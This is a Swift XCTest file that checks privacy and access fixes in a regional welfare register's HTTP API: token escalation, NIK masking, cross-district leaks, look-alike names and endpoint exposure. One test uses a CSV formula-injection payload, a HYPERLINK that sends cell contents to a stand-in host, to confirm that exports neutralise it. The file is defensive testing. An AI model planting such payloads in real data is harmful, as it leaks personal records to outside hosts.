import Foundation
import XCTest
import PilarCore

/// Issue 13, items 1–4, 7 and 8, over HTTP against a real server: who may hand out which
/// token, import matching inside the caller's reach, formula cells in CSV, the NIK mask, look-alike
/// names, and the small leaks. (Tokens: PrivacyTokenTests; files and other processes: PrivacyCLITests.)
final class PrivacyAPITests: XCTestCase {
    var s: TestServer!
    override func setUpWithError() throws { s = try TestServer() }
    override func tearDown() { s.stop() }

    private func id(_ r: TestResponse) -> Int64 { r["id"]?.intValue ?? 0 }

    // 1. A provinsi token made a kabkota token (full NIKs, register writes) and a tksk token
    //    (report writes): both more than a provinsi has.
    func testATokenNeverGrantsMoreThanItsHolderHas() throws {
        let prov = s.client(token: try s.token(.provinsi, "32"))
        for (role, region) in [("kabkota", "32.74"), ("tksk", "32.74.01"), ("dpo", nil), ("metrics", nil), ("admin", nil)] as [(String, String?)] {
            let r = prov.post("/v1/tokens", ["role": .string(role), "region": .from(region), "name": "t"])
            XCTAssertEqual(r.status, 403, "provinsi -> \(role): \(r.text)")
        }
        XCTAssertEqual(prov.post("/v1/tokens", ["role": "viewer", "region": "32.74", "name": "dashboard"]).status, 201)

        let kab = s.client(token: try s.token(.kabkota, "32.74"))
        XCTAssertEqual(kab.post("/v1/tokens", ["role": "tksk", "region": "32.74.01", "name": "t"]).status, 201)
        XCTAssertEqual(kab.post("/v1/tokens", ["role": "viewer", "region": "32.74", "name": "v"]).status, 201)
        for (role, region) in [("kabkota", "32.74"), ("provinsi", "32"), ("dpo", nil)] as [(String, String?)] {
            XCTAssertEqual(kab.post("/v1/tokens", ["role": .string(role), "region": .from(region), "name": "t"]).status, 403, "kabkota -> \(role)")
        }
        let tksk = s.client(token: try s.token(.tksk, "32.74.01"))
        XCTAssertEqual(tksk.post("/v1/tokens", ["role": "viewer", "region": "32.74.01", "name": "v"]).status, 403)
        // The one rule, for every pair: a granted role never has a right its maker lacks.
        for maker in Role.allCases where maker != .admin {
            for granted in maker.grantable {
                XCTAssertTrue(granted.capabilities.isSubset(of: maker.capabilities), "\(maker) -> \(granted)")
            }
        }
    }

    // 2. A kabkota dry run matched a NIK registered in another district and named its region.
    func testImportMatchesOnlyInsideTheCallersReach() throws {
        let admin = s.client()
        try s.addKotaBandung()
        let nik = PSKSRecordAPITests.nik("327301", born: "2000-03-04", female: false, serial: 977)
        let elsewhere: JSON = ["type": "TAGANA", "name": "Asep Sunandar", "nik": .string(nik), "education": "SLTA",
                               "region": "32.73.01.1001"]
        let created = admin.post("/v1/psks", elsewhere)
        XCTAssertEqual(created.status, 201, created.text)

        let kab = s.client(token: try s.token(.kabkota, "32.74"))
        let row = "name,nik,region\nAsep Sunandar,\(nik),32.74.03.1001\n"
        for path in ["/v1/psks/import?type=TAGANA&dry_run=true", "/v1/psks/import?type=TAGANA"] {
            let r = kab.csv(path, row)
            let errors = r["errors"]?.arrayValue ?? []
            XCTAssertEqual(errors.count, 1, r.text)
            XCTAssertEqual(errors.first?["code"]?.stringValue, "duplicate_nik", r.text)
            XCTAssertFalse(r.text.contains("32.73"), "the refusal names no region outside the reach: \(r.text)")
            XCTAssertFalse(r.text.contains("\(id(created))"), "nor the record: \(r.text)")
        }
        // Inside the reach the same import still finds its record (idempotent by NIK).
        let own = admin.get("/v1/psks?type=TAGANA&region=32.74&limit=1")["items"]?.arrayValue?.first
        let ownNIK = own?["nik"]?.stringValue ?? ""
        let ownRow = "name,nik,region\n\(own?["name"]?.stringValue ?? ""),\(ownNIK),\(own?["region"]?.stringValue ?? "")\n"
        XCTAssertEqual(kab.csv("/v1/psks/import?type=TAGANA&dry_run=true", ownRow)["unchanged"]?.intValue, 1)
    }

    // 3. A name like =HYPERLINK(...) ran in the spreadsheet of whoever opened an export.
    func testExportNeutralisesFormulasAndImportTakesThePrefixOff() throws {
        let admin = s.client()
        let evil = "=HYPERLINK(\"http://x.example/?x=\"&C3&D3,\"Lihat\")"
        for (name, head) in [(evil, "+62 812"), ("@SUM(1)", "-1+1")] {
            let r = admin.post("/v1/psks", ["type": "LKS", "name": .string(name), "address": "Jl. Kartini 1",
                                            "head": .string(head), "region": "32.74.01.1001"])
            XCTAssertEqual(r.status, 201, r.text)
        }
        let export = admin.get("/v1/psks/export?type=LKS&region=32.74")
        XCTAssertEqual(export.status, 200)
        var rows = 0
        var reader = CSVReader(bytes: Array(export.text.utf8))
        _ = try reader.nextRecord()  // the header
        while let record = try reader.nextRecord() {
            for cell in record.fields {
                XCTAssertFalse(["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "a cell a spreadsheet would run: \(cell)")
            }
            rows += 1
        }
        XCTAssertGreaterThan(rows, 1)
        XCTAssertTrue(export.text.contains("\"'=HYPERLINK("), export.text)
        XCTAssertTrue(export.text.contains("'+62 812"))
        // The export imports back unchanged: the apostrophe is taken off again.
        let again = admin.csv("/v1/psks/import", String(export.text.dropFirst()))  // without the BOM
        XCTAssertEqual(again["created"]?.intValue, 0, again.text)
        XCTAssertEqual(again["updated"]?.intValue, 0, again.text)
        let found = admin.get("/v1/psks?type=LKS&region=32.74.01.1001&limit=200")["items"]?.arrayValue ?? []
        XCTAssertTrue(found.contains { $0["name"]?.stringValue == evil })
    }

    // 4. `3274********0004` plus sex, birth year and region left at most 366 candidates.
    func testMaskedRolesSeeSixDigitsAndNoBirthDateInAnswersExportsAndAudit() throws {
        let admin = s.client()
        let created = admin.post("/v1/psks", PSKSRecordAPITests.tagana(serial: 931))
        XCTAssertEqual(created.status, 201)
        XCTAssertEqual(admin.patch("/v1/psks/\(id(created))", ["notes": "pindah RT"]).status, 200)
        let full = created["nik"]?.stringValue ?? ""
        let masked = String(full.prefix(4)) + String(repeating: "*", count: 10) + String(full.suffix(2))
        for (role, home) in [(Role.provinsi, "32"), (.tksk, "32.74.03")] {
            let c = s.client(token: try s.token(role, home))
            let one = c.get("/v1/psks/\(id(created))")
            XCTAssertEqual(one["nik"]?.stringValue, masked, "\(role)")
            XCTAssertEqual(one["birth_date"], .null, "\(role)")
            let list = c.get("/v1/psks?type=TAGANA&limit=200")
            XCTAssertTrue(list.text.contains(masked), "\(role)")
            XCTAssertFalse(list.text.contains("2000-03-04"), "\(role): no birth date in the list")
            let csv = c.get("/v1/psks/export?type=TAGANA").text
            XCTAssertTrue(csv.contains(masked), "\(role)")
            XCTAssertFalse(csv.contains("2000-03-04") || csv.contains("2000-**"), "\(role): no birth date or year in the export")
        }
        let prov = s.client(token: try s.token(.provinsi, "32"))
        let audit = prov.get("/v1/audit?entity=psks&id=\(id(created))")
        XCTAssertEqual(audit.status, 200)
        XCTAssertTrue(audit.text.contains(masked), audit.text)
        XCTAssertFalse(audit.text.contains("2000-"), "the audit view shows no birth year: \(audit.text)")
        XCTAssertFalse(audit.text.contains(String(full.suffix(4))) && !String(full.suffix(4)).hasSuffix(String(full.suffix(2))))
    }

    // 7. A zero-width space or a non-breaking hyphen registered the same LKS twice.
    func testLookAlikeNamesAreTheSameName() throws {
        let admin = s.client()
        func lks(_ name: String) -> TestResponse {
            admin.post("/v1/psks", ["type": "LKS", "name": .string(name), "address": "Jl. Siliwangi 2", "head": "Ani",
                                    "region": "32.74.02.1001"])
        }
        XCTAssertEqual(lks("LKS Harapan-Kita").status, 201)
        for lookalike in ["LKS Harapan\u{2011}Kita", "LKS\u{200B} Harapan-Kita", "LKS Harapan\u{2013}Kita",
                          "LKS\u{00A0}Harapan-Kita", "ＬＫＳ Harapan-Kita", "LKS Hara\u{00AD}pan-Kita"] {
            let r = lks(lookalike)
            XCTAssertEqual(r.status, 409, "\(lookalike.unicodeScalars.map { String($0.value, radix: 16) }): \(r.text)")
            XCTAssertEqual(r["code"]?.stringValue, "duplicate_name")
        }
        XCTAssertEqual(NameSearch.fold("Harapan\u{2011}Kita\u{200B}"), "harapan-kita")
    }

    // 8. A TKSK saw the title and place of trainings outside its reach on a record's list.
    func testARecordsTrainingListHidesEventsOutsideTheReach() throws {
        let admin = s.client()
        let psks = s.newPSM(admin, serial: 941)
        let event = admin.post("/v1/trainings", ["programme": "PELATIHAN_DASAR_PSM", "title": "Diklat Rahasia Provinsi", "level": "provinsi",
                                                 "region": "32", "starts_on": "2026-01-05", "ends_on": "2026-01-07",
                                                 "place": "Hotel Horison Bandung"])
        XCTAssertEqual(event.status, 201, event.text)
        let added = admin.post("/v1/trainings/\(id(event))/participants", ["psks_id": .int(psks)])
        XCTAssertTrue([200, 201].contains(added.status), added.text)
        let tksk = s.client(token: try s.token(.tksk, "32.74.01"))
        let list = tksk.get("/v1/psks/\(psks)/trainings")
        XCTAssertEqual(list.status, 200, list.text)
        XCTAssertFalse(list.text.contains("Diklat Rahasia") || list.text.contains("Horison"), list.text)
        XCTAssertTrue(list.text.contains("\"outside_reach\":true"), list.text)
        XCTAssertTrue(admin.get("/v1/psks/\(psks)/trainings").text.contains("Horison"), "admin still sees it")
    }

    // 8. /healthz gave the database error text to anyone; /metrics was public.
    func testHealthHidesTheErrorAndMetricsNeedsItsToken() throws {
        let anonymous = s.client(token: "")
        XCTAssertEqual(anonymous.request("GET", "/metrics", headers: [("Authorization", "")]).status, 401)
        XCTAssertEqual(s.client(token: try s.token(.kabkota, "32.74")).get("/metrics").status, 403)
        let scraper = s.client().post("/v1/tokens", ["role": "metrics", "name": "prometheus"])
        XCTAssertEqual(scraper.status, 201, scraper.text)
        let metrics = s.client(token: scraper["token"]?.stringValue).get("/metrics")
        XCTAssertEqual(metrics.status, 200)
        XCTAssertTrue(metrics.text.contains("pilar_http_requests_total"))
        XCTAssertEqual(s.client(token: scraper["token"]?.stringValue).get("/v1/psks").status, 403, "a metrics token reads nothing else")

        s.pilar.db.close()
        let health = anonymous.request("GET", "/healthz", headers: [("Authorization", "")])
        XCTAssertEqual(health.status, 503)
        XCTAssertFalse(health.text.contains(s.directory), health.text)
        XCTAssertFalse(health.text.contains("closed"), health.text)
    }
}
